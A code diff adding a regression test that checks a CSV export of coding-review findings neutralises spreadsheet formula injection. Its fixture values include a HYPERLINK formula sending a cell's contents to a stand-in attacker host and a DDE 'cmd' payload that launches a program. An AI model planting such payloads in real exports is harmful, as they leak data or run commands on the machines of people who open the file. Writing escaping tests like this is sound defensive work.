@@ -160,3 +160,22 @@ def test_findings_csv_writes_each_chart_from_the_fetched_data():
     assert reviewed["reviewed_at"].startswith("2026-04-02T09:30")
     assert pending["outcome"] == "not reviewed"
     assert pending["acknowledged_by"] == ""
+
+
+def test_findings_csv_escapes_every_text_cell_a_spreadsheet_would_run():
+    """Issue 10: ``=1+HYPERLINK(...)`` and ``-2+3+cmd|...`` got past the old digit exception."""
+    report = month_report(
+        info(
+            chart(
+                1,
+                '=1+HYPERLINK("http://evil.example/?"&A1,"Click")',
+                ["99214"],
+                review("over_coded", code="-2+3+cmd|' /C calc'!A0", comment="\t=1+1"),
+            )
+        )
+    )
+    (row,) = csv.DictReader(io.StringIO(findings_csv(report)))
+    assert row["clinician"] == '\'=1+HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert row["reviewer_code"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["comment"] == "'\t=1+1"
+    assert row["encounter"] == "101"  # a number, written as a number
